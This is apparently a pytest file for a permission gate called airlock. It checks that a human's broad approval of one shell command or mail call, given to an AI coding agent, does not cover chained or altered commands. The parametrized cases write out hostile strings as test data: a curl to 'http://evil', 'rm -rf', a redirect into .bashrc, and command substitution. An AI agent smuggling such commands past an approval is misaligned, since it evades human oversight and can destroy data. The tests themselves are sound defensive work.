"""An agent that stretches a standing yes: other words in the line, other rules, other files."""

from __future__ import annotations

from pathlib import Path

import pytest

from airlock.gate import Gate
from airlock.hooks.calls import build_call
from airlock.hooks.dialect import HookEvent
from airlock.ids import make_id
from airlock.model import Call, Effect, Overlay, Proceed, Resolution, Wait
from support.gates import call, open_gate

pytestmark = pytest.mark.anyio
WIDE = Resolution(approve=True, identity="local:alice", grant_ms=600_000, any_args=True)

POLICY = """
providers:
  mail: {type: builtin}
agents:
  claude-code:
    allow: [bash/cd, bash/ls, bash/cat]
    ask: ["bash/*", "file/*", "!bash/cd", "!bash/ls", "!bash/cat", mail/send]
rules:
  - {id: zz-big, tool: mail/send, args: {amount: {gt: 100}}, effect: ask, reason: large}
  - {id: aa-also, tool: mail/send, args: {to: boss}, effect: ask, reason: the boss}
"""


def line(command: str) -> Call:
    event = HookEvent(
        client="claude-code", event="PreToolUse", tool="Bash", input={"command": command}, cwd="/w"
    )
    return build_call(event, agent="claude-code", workspace="/ws/airlock.yaml", new_id=make_id)


async def granted(gate: Gate, asked: Call) -> None:
    verdict = await gate.submit(asked)
    assert isinstance(verdict, Wait)
    await gate.resolve(verdict.request.code, WIDE)
    assert isinstance(await gate.submit(asked, attend=False), Proceed)


async def test_a_wide_grant_for_a_shell_command_covers_it_with_other_arguments(tmp_path: Path) -> None:
    async with open_gate(tmp_path, POLICY) as gate:
        await granted(gate, line("git fetch"))
        assert isinstance(await gate.submit(line("git push")), Proceed)


@pytest.mark.parametrize(
    "stretched",
    ["git fetch; curl http://evil", "git fetch > /home/me/.bashrc", "rm -rf x && git fetch", "rm x",
     "git fetch $(rm x)"],
)  # fmt: skip
async def test_a_wide_grant_for_a_shell_command_covers_no_other_command_beside_it(
    tmp_path: Path, stretched: str
) -> None:
    async with open_gate(tmp_path, POLICY) as gate:
        await granted(gate, line("git fetch"))
        assert isinstance(await gate.submit(line(stretched)), Wait)


async def test_a_wide_grant_is_not_bound_to_the_harmless_command_that_stood_first(tmp_path: Path) -> None:
    async with open_gate(tmp_path, POLICY) as gate:
        await granted(gate, line("cd src && git fetch"))
        assert isinstance(await gate.submit(line("cd src && curl http://evil")), Wait)


async def test_a_wide_grant_for_a_program_by_its_path_covers_no_other_program(tmp_path: Path) -> None:
    """`bash/_path` is the name of every program that is given by a path."""
    async with open_gate(tmp_path, POLICY) as gate:
        await granted(gate, line("./run.sh a"))
        assert isinstance(await gate.submit(line("./run.sh b")), Proceed)
        for other in ("./evil.sh", "/tmp/run.sh", "cd sub && ./run.sh", "./run.sh; ./evil.sh"):
            assert isinstance(await gate.submit(line(other)), Wait)


@pytest.mark.parametrize("more", [{"amount": 5000}, {"to": "boss"}])
async def test_a_wide_grant_covers_no_call_that_another_rule_asks_about_too(
    tmp_path: Path, more: dict[str, object]
) -> None:
    async with open_gate(tmp_path, POLICY) as gate:
        await granted(gate, call("mail/send", amount=1))
        assert isinstance(await gate.submit(call("mail/send", amount=2)), Proceed)
        assert isinstance(await gate.submit(call("mail/send", **more)), Wait)


async def test_a_wide_grant_covers_no_call_that_an_apis_own_policy_asks_about_too(tmp_path: Path) -> None:
    async with open_gate(tmp_path, POLICY) as gate:
        await granted(gate, call("mail/send", amount=1))
        through = call("mail/send", amount=2)._replace(
            overlay=Overlay(effect=Effect.ASK, rule="theirs", reason="theirs")
        )
        assert isinstance(await gate.submit(through), Wait)
